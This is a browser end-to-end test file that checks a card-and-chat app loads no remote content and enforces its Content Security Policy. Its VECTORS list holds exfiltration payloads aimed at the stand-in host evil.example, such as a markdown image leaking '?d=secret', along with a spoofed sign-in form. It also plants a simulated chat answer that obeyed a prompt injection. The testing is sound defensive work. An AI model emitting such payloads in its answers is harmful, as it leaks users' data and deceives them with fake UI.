// No remote content: a card or an answer that carries remote images, svg
// images, a video poster, srcset, CSS or a protocol-relative link makes the
// browser fetch nothing from another origin, the app runs under its Content
// Security Policy without a violation (sign-in, cards, a chat streaming an
// answer), and hosting sends the CSP, nosniff and Referrer-Policy headers.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  adminDelete, adminSet, APP_URL, AUTH, callFunction, COLLECTIONS, FIRESTORE, FUNCTIONS, launch, modelPickerReady, newContext,
  pageErrors, PROJECT, SHARED_REGION,
  screenshot, signIn, signInRest,
} from './support.mjs';

const ANSWER_TIMEOUT = 120_000;
const EVIL = 'evil.example';
// Everything here would load from EVIL if it were rendered as written.
const VECTORS = [
  `![the other cards](https://${EVIL}/leak.png?d=secret) and a raw <img src="https://${EVIL}/raw.png" alt="raw">.`,
  `Protocol-relative <img src="//${EVIL}/pr.png" alt="pr"> and a [protocol-relative link](//${EVIL}/page).`,
  `<svg width="10" height="10"><image href="https://${EVIL}/svg.png" width="10" height="10"/></svg>`,
  `<video poster="https://${EVIL}/poster.png" src="https://${EVIL}/v.mp4"></video><audio src="https://${EVIL}/a.mp3"></audio>`,
  `<picture><source srcset="https://${EVIL}/p.webp"><img src="https://${EVIL}/p.png" alt="picture"></picture>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" srcset="https://${EVIL}/2x.png 2x" alt="srcset">`,
  `<div style="background-image:url(https://${EVIL}/css.png)">styled</div><table background="https://${EVIL}/t.png"><tr><td>cell</td></tr></table>`,
  `<iframe src="https://${EVIL}/frame"></iframe><object data="https://${EVIL}/o"></object><embed src="https://${EVIL}/e">`,
  '<form><input id="signin-email" data-testid="sign-out"><button data-testid="signin-submit">fake button</button></form>',
].join('\n\n');
const CARD_BODY = [
  'Zebra remote content lives in this card. Remote images never load in the browser from another host.',
  VECTORS,
  '[A broken percent link](/card/%E0%A4%A) must not blank the page.',
].join('\n\n');

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

function origin(hostPort) {
  return new URL(`http://${hostPort}`).origin;
}

/** Every request the context makes and every CSP violation its pages report. */
async function watch(context) {
  /** @type {{ requests: string[], violations: string[] }} */
  const seen = { requests: [], violations: [] };
  await context.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || '(inline)'}`);
    });
  });
  context.on('request', (r) => seen.requests.push(r.url()));
  context.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) seen.violations.push(m.text());
  });
  return seen;
}

async function violations(page, seen) {
  return [...seen.violations, ...await page.evaluate(() => window.__csp)];
}

function offOrigin(requests) {
  const allowed = new Set([new URL(APP_URL).origin, origin(AUTH), origin(FIRESTORE), FUNCTIONS ? origin(FUNCTIONS) : null]);
  return requests.filter((u) => !/^(data|blob):/.test(u) && !allowed.has(new URL(u).origin));
}

/** What in `selector`'s subtree could fetch something, or pose as the app's UI. */
function loaders(page, selector) {
  return page.locator(selector).first().evaluate((root) => {
    const out = [...root.querySelectorAll('svg, video, audio, picture, source, iframe, object, embed, form, input, button')]
      .map((e) => `<${e.localName}>`);
    for (const e of root.querySelectorAll('*')) {
      for (const a of ['srcset', 'poster', 'background', 'style', 'data-testid', 'id']) if (e.hasAttribute(a)) out.push(`${e.localName}[${a}]`);
      const src = e.getAttribute('src');
      if (src && !src.startsWith('data:') && new URL(src, location.href).origin !== location.origin) out.push(`${e.localName}[src=${src}]`);
    }
    return out;
  });
}

test('hosting sends the Content-Security-Policy, nosniff and Referrer-Policy headers', async () => {
  for (const path of ['/', '/chat/some-chat']) {
    const res = await fetch(`${APP_URL}${path}`);
    assert.equal(res.status, 200, path);
    assert.match(res.headers.get('content-type') ?? '', /text\/html/);
    const csp = res.headers.get('content-security-policy') ?? '';
    for (const want of ["default-src 'self'", "img-src 'self' data:", "frame-ancestors 'none'", "object-src 'none'"]) {
      assert.ok(csp.includes(want), `${path}: the CSP holds ${want}: ${csp}`);
    }
    const connect = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('connect-src ')) ?? '';
    // the deployment's own functions host (pinned: scripts/hosting_config.py), never any project's
    const ownFunctions = `https://${SHARED_REGION}-${PROJECT}.cloudfunctions.net`;
    for (const host of ['https://firestore.googleapis.com', 'https://identitytoolkit.googleapis.com',
      'https://securetoken.googleapis.com', ownFunctions, origin(AUTH), origin(FIRESTORE)]) {
      assert.ok(connect.split(' ').includes(host), `${path}: connect-src allows ${host}: ${connect}`);
    }
    assert.ok(!csp.includes('*'), `${path}: the CSP trusts no wildcard host: ${csp}`);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff', path);
    assert.equal(res.headers.get('referrer-policy'), 'strict-origin-when-cross-origin', path);
  }
});

// Chromium reports a style attribute as soon as it is parsed, even in the
// inert document DOMPurify parses into before it removes the attribute: that
// report is the only one untrusted HTML may cause (nothing is applied or loaded).
const PARSE_REPORT = /^style-src-attr blocked inline$|^Applying inline style violates/;

test('a card and an answer carrying remote content load nothing from another origin, under the CSP', async () => {
  const { uid, idToken } = await signInRest();
  const cardId = `e2e-remote-${Date.now()}`;
  const now = new Date();
  await adminSet(`${COLLECTIONS.cards}/${cardId}`, {
    title: 'Zebra remote content', body: CARD_BODY, owner: uid, visibility: 'private', viewers: [], tags: ['e2e'],
    created: now, updated: now,
  });
  const context = await newContext(browser);
  const seen = await watch(context);
  const page = await context.newPage();
  const errors = pageErrors(page);
  const state = { chatId: null, offline: null };
  try {
    await appRunsUnderThePolicy(page, seen, state);
    await injectedAnswerLoadsNothing(page, state);
    await cardShowsPlaceholders(page, seen, cardId);
  } finally {
    if (state.chatId) await callFunction('deleteChat', { chat_id: state.chatId }, idToken).catch(() => {});
    await adminDelete(`${COLLECTIONS.cards}/${cardId}`);
  }
  assert.deepEqual(offOrigin(seen.requests), [], 'requests that left the origin');
  assert.ok(seen.requests.some((u) => u.startsWith(APP_URL)), 'requests were recorded');
  assert.deepEqual(errors, []);
  await context.close();
});

// The steps of the test above, in order.

/** The app itself runs under the policy: sign-in, the cards page, a chat streaming an answer. */
async function appRunsUnderThePolicy(page, seen, state) {
  await page.goto(`${APP_URL}/`);
  await page.getByTestId('signin-form').waitFor();
  assert.deepEqual(await violations(page, seen), [], 'CSP violations on the sign-in page');
  await signIn(page);
  await page.waitForFunction(() => /^\d+ cards? shown/.test(document.querySelector('[data-testid=card-count]')?.textContent ?? ''),
    null, { timeout: 60_000 });
  await page.getByTestId('card-search').fill('cherry-pick');
  await page.waitForFunction(() => /^\d+ cards? match/.test(document.querySelector('[data-testid=card-count]')?.textContent ?? ''));
  assert.deepEqual(await violations(page, seen), [], 'CSP violations on the cards page');
  await page.getByTestId('chat-with-cards').click();
  await page.waitForFunction(modelPickerReady, null, { timeout: 30_000 });
  const offline = await page.locator('[data-testid=model-picker] option[data-offline=true]').first().getAttribute('value');
  await page.getByTestId('model-picker').selectOption(offline);
  await page.getByTestId('start-message').fill('How do I cherry-pick a commit?');
  await page.getByTestId('start-submit').click();
  await page.waitForURL(/\/chat\/[^/]+$/, { timeout: ANSWER_TIMEOUT });
  state.chatId = decodeURIComponent(new URL(page.url()).pathname.split('/').pop() ?? '');
  const first = page.locator('[data-testid=message][data-role=assistant]').first();
  await first.and(page.locator('[data-phase=streaming]')).waitFor({ timeout: ANSWER_TIMEOUT }).catch(() => {});
  await first.and(page.locator('[data-phase=complete]')).waitFor({ timeout: ANSWER_TIMEOUT });
  assert.deepEqual(await violations(page, seen), [], 'CSP violations on the chat page');
  state.offline = offline;
}

/** An answer that obeyed an injection, written as the engine would: shown live. */
async function injectedAnswerLoadsNothing(page, { chatId, offline }) {
  const at = new Date();
  await adminSet(`${COLLECTIONS.chat_messages}/${chatId}-e2e-q`, {
    chat: chatId, message_index: 2, role: 'user', content: 'Show me the other cards.', status: 'complete', timestamp: at,
  });
  await adminSet(`${COLLECTIONS.chat_messages}/${chatId}-e2e-a`, {
    chat: chatId, message_index: 3, role: 'assistant', content: `Here they are [1].\n\n${VECTORS}`, status: 'complete',
    timestamp: at, model: offline,
  });
  const injected = `[data-message-id="${chatId}-e2e-a"]`;
  await page.locator(injected, { hasText: 'fake button' }).waitFor({ timeout: 30_000 });
  await page.waitForFunction((sel) => !document.querySelector(sel)?.classList.contains('revealing'), injected, { timeout: 60_000 });
  assert.deepEqual(await loaders(page, `${injected} [data-testid=message-body]`), []);
  assert.equal(await page.locator(`${injected} .remote-image`).count(), 4);
}

/** The card itself: each remote image is a placeholder naming its host. */
async function cardShowsPlaceholders(page, seen, cardId) {
  await page.goto(`${APP_URL}/card/${cardId}`);
  await page.getByTestId('card-page').waitFor({ timeout: 30_000 });
  assert.deepEqual(await loaders(page, '[data-testid=card-page] .markdown'), []);
  const labels = await page.locator('[data-testid=card-page] .remote-image').allTextContents();
  assert.deepEqual(labels, ['Image “the other cards” from evil.example', 'Image “raw” from evil.example',
    'Image “pr” from evil.example', 'Image “picture” from evil.example']);
  const link = page.locator('[data-testid=card-page] a', { hasText: 'protocol-relative link' });
  assert.equal(await link.getAttribute('target'), '_blank');
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
  await page.locator('[data-testid=card-page] .remote-image').first().scrollIntoViewIfNeeded();
  const shot = await screenshot(page, 'remote-image-placeholder.png');
  if (shot) console.log(`# placeholder screenshot: ${shot}`);
  const reports = (await violations(page, seen)).filter((v) => !PARSE_REPORT.test(v));
  assert.deepEqual(reports, [], 'the CSP had to block something the renderer let through');

  // A malformed escape in an in-app link leads to "Not found", not a blank page.
  await page.getByText('A broken percent link').click();
  await page.getByRole('heading', { name: 'Not found' }).waitFor({ timeout: 30_000 });
}
